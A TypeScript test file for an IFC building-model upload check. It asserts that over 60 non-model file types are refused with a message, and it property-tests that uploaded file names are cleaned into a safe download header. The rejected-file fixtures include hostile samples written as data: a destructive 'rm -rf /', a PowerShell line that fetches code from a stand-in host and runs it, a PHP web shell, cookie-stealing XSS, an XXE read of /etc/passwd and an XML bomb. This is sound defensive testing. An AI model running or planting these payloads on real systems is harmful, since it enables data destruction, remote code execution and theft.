import fc from 'fast-check';
import { attachment } from '@/lib/http';
import { checkModelHead, ModelFileError } from '@/lib/ifc';
import { cleanName } from '@/lib/uploads/names';

const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');
const text = (content: string) => Buffer.from(content);
const utf16 = (content: string) => Buffer.from(content, 'utf16le');
const IFC = "ISO-10303-21;\nHEADER;\nFILE_SCHEMA(('IFC4'));\nENDSEC;\nDATA;\n";

/** What is no model, by its first bytes; a name that ends with .ifc does not help it (UP4). */
const FILES: Record<string, Buffer> = {
  'Windows program': hex('4d5a9000 03000000 04000000 ffff0000'),
  'Linux program': hex('7f454c46 02010100 00000000 00000000'),
  'Mac program': hex('cffaedfe 07000001 03000000 02000000'),
  'Mac program for two machines': hex('cafebabe 00000002 01000007 00000003'),
  'Java class': hex('cafebabe 00000034 00100a00 03000d07'),
  'WebAssembly module': hex('0061736d 01000000'),
  'Dalvik program': text('dex\n035\0'),
  'shell script': text('#!/bin/sh\nrm -rf /\n'),
  'Python script': text('#!/usr/bin/env python3\nimport os\n'),
  'batch file': text('@echo off\r\ndel *.*\r\n'),
  'PowerShell script': text('Invoke-WebRequest http://evil.test | iex'),
  'PHP script': text('<?php system($_GET["c"]); ?>'),
  JavaScript: text('alert(document.cookie)'),
  'HTML page': text('<!DOCTYPE html><script>alert(1)</script>'),
  'HTML without a doctype': text('<html><body onload=alert(1)>'),
  'SVG picture': text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'SVG with an XML line': text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
  'XML of something else': text('<?xml version="1.0"?><rss version="2.0"/>'),
  'XML with an entity': text(
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ),
  'XML bomb': text('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'),
  PDF: text('%PDF-1.7\n%\u00e2\u00e3'),
  'PDF that says it is STEP': text('%PDF-1.7\nISO-10303-21;'),
  PNG: hex('89504e47 0d0a1a0a 0000000d 49484452'),
  JPEG: hex('ffd8ffe0 00104a46 49460001'),
  GIF: text('GIF89a\u0001\0'),
  'GIF that is a script': text('GIF89a=1;alert(1)'),
  BMP: hex('424d3600 00000000 00003600'),
  WebP: text('RIFF\0\0\0\0WEBPVP8 '),
  AVIF: hex('00000020 66747970 61766966 00000000'),
  TIFF: hex('49492a00 08000000'),
  icon: hex('00000100 01001010'),
  MP4: hex('00000018 66747970 6d703432'),
  MP3: text('ID3\u0003\0'),
  gzip: hex('1f8b0800 00000000 0003'),
  bzip2: text('BZh91AY&SY'),
  xz: hex('fd377a58 5a000004'),
  '7-Zip': hex('377abcaf 271c0004'),
  RAR: hex('52617221 1a070100'),
  tar: Buffer.concat([text('model.ifc'), Buffer.alloc(248), text('ustar\0')]),
  Zstandard: hex('28b52ffd 24000000'),
  cabinet: text('MSCF\0\0\0\0'),
  'SQLite database': text('SQLite format 3\0'),
  'wexBIM file': hex('95579c05 04000000'),
  'glTF binary': hex('676c5446 02000000'),
  'STL text': text('solid cube\nfacet normal 0 0 1\n'),
  OBJ: text('# Blender\nv 0 0 0\nf 1 2 3\n'),
  DWG: text('AC1032\0\0'),
  DXF: text('  0\nSECTION\n  2\nHEADER\n'),
  'Revit file': hex('d0cf11e0 a1b11ae1'),
  'STEP of another trade': text(
    "ISO-10303-21;\nHEADER;\nFILE_SCHEMA(('AUTOMOTIVE_DESIGN'));\nENDSEC;\nDATA;\n",
  ),
  'STEP of AP242': text(
    "ISO-10303-21;\nHEADER;\nFILE_SCHEMA(('AP242_MANAGED_MODEL_BASED_3D_ENGINEERING_MIM_LF'));\nENDSEC;\nDATA;\n",
  ),
  'STEP without a schema': text('ISO-10303-21;\nHEADER;\nENDSEC;\nDATA;\n'),
  'STEP in which a comment names the schema': text(
    "ISO-10303-21;\nHEADER;\n/* FILE_SCHEMA(('IFC4')); */\nENDSEC;\nDATA;\n",
  ),
  'other exchange structure': text('ISO-10303-28;\nHEADER;\n'),
  JSON: text('{"ifc":"IFC4"}'),
  CSV: text('GlobalId;Name\n1;2\n'),
  mail: text('From: a@example.org\nSubject: model\n\nISO-10303-21;'),
  'IFC behind a page': text(`<html>${IFC}`),
  'IFC behind a program': Buffer.concat([hex('4d5a9000'), text(IFC)]),
  'IFC in UTF-16': utf16(`\ufeff${IFC}`),
  'IFC in UTF-16 without a mark': utf16(IFC),
  zeros: Buffer.alloc(4096),
  noise: Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 251)),
  'nothing at all': Buffer.alloc(0),
  blanks: text(' \r\n\t'.repeat(100)),
};

test('these are at least 60 kinds of file', () => {
  expect(Object.keys(FILES).length).toBeGreaterThanOrEqual(60);
});

test.each(Object.entries(FILES))('a file that is %s is refused with words (UP4)', (_, bytes) => {
  let refusal: unknown;
  try {
    checkModelHead(Uint8Array.from(bytes));
  } catch (error) {
    refusal = error;
  }
  expect(refusal).toBeInstanceOf(ModelFileError);
  expect((refusal as Error).message).toMatch(/^[A-Z].{10,}\.$/s);
});

test('the file that these are measured against is taken', () => {
  expect(checkModelHead(Uint8Array.from(text(IFC)))).toMatchObject({ kind: 'ifc' });
});

test('whatever a client calls a file, its name is safe to show, to keep and to send (UP7)', () => {
  fc.assert(
    fc.property(
      fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }), fc.string()),
      (given) => {
        const name = cleanName(given);
        if (name.length > 255 || /[\p{Cc}\p{Cf}\\/]/u.test(name) || cleanName(name) !== name) return false;
        // RFC 6266 and RFC 8187: one line of ASCII.
        return /^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[\x21-\x7e]*$/.test(
          attachment(name || 'model.ifc'),
        );
      },
    ),
    { numRuns: 5_000 },
  );
});
